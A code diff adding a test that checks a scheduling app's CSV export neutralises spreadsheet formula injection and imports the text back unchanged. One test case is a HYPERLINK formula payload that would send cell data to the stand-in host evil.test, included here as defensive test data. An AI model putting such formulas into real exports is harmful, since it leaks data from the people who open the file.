@@ -13,7 +13,17 @@ import { after, before, describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { eventually, PNG_1x1, startHerald, type CallResult, type TestAccount, type TestHerald } from '../helpers/herald.ts';
-import { addWebhookChannel, assertError, countRows, startFileServer, type Channel, type FileServer } from '../helpers/api-fixtures.ts';
+import {
+  addWebhookChannel,
+  assertError,
+  countRows,
+  createPosts,
+  entry,
+  postBody,
+  startFileServer,
+  type Channel,
+  type FileServer,
+} from '../helpers/api-fixtures.ts';
 import { testStores, storeSuite } from '../helpers/stores.ts';
 import { startWebhookReceiver, type WebhookReceiver } from '../fakes/webhook-receiver.ts';
 import { EXPORT_COLUMNS } from '../../src/contract/index.ts';
@@ -453,6 +463,58 @@ for (const store of await testStores()) {
           path: 'timezone',
         });
       }
+    });
+
+    it('writes no cell a spreadsheet would run as a formula, and reads every text back as it was', async () => {
+      const desk = await herald.newAccount('Formula desk');
+      const channel = await addWebhookChannel(desk, { name: '@Desk' }, `${receiver.url}/formula-desk`);
+      const copy = await herald.newAccount('Formula copy');
+      await addWebhookChannel(copy, { name: '@Desk' }, `${receiver.url}/formula-copy`);
+      // [text, its cell in the file]: a quote before a text a spreadsheet would run, and one more before quotes that lead to one.
+      const cases: [text: string, cell: string][] = [
+        ['=HYPERLINK("https://evil.test/?d="&A1,"Click")', `'=HYPERLINK("https://evil.test/?d="&A1,"Click")`],
+        ['+1 555 0100', "'+1 555 0100"],
+        ['-x', "'-x"],
+        ['@x', "'@x"],
+        ['\tafter a tab', "'\tafter a tab"],
+        ["'=SUM(1,2)", "''=SUM(1,2)"],
+        ["''+two quotes", "'''+two quotes"],
+        ["'a quote alone", "'a quote alone"],
+        ['plain', 'plain'],
+      ];
+      const range = ['2033-05-01T00:00:00Z', '2033-05-31T00:00:00Z'] as const;
+      await createPosts(
+        desk,
+        postBody(
+          'schedule',
+          [
+            entry(
+              channel.id,
+              cases.map(([text]) => text),
+            ),
+          ],
+          { date: '2033-05-02T09:00:00.000Z' },
+        ),
+      );
+
+      const text = await exportCsv(desk, ...range);
+      const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
+      assert.deepEqual(
+        rows.map((r) => r.content),
+        cases.map(([, cell]) => cell),
+      );
+      assert.equal(rows[0].channels, "'@Desk", 'every column, the channel names too');
+      for (const row of rows) for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'a cell a spreadsheet would run');
+
+      const back = await importCsv(text, false, copy);
+      assert.equal(back.status, 201, JSON.stringify(back.body));
+      const [post] = (await copy.call('GET', `/posts?startDate=${range[0]}&endDate=${range[1]}`)).body.posts;
+      const detail = await copy.call('GET', `/posts/${post.id}`);
+      assert.deepEqual(
+        detail.body.thread.map((t: { content: string }) => t.content),
+        cases.map(([original]) => original),
+      );
+      assert.equal(detail.body.integration.name, '@Desk');
     });
 
     it('checks the README’s example file clean', async () => {
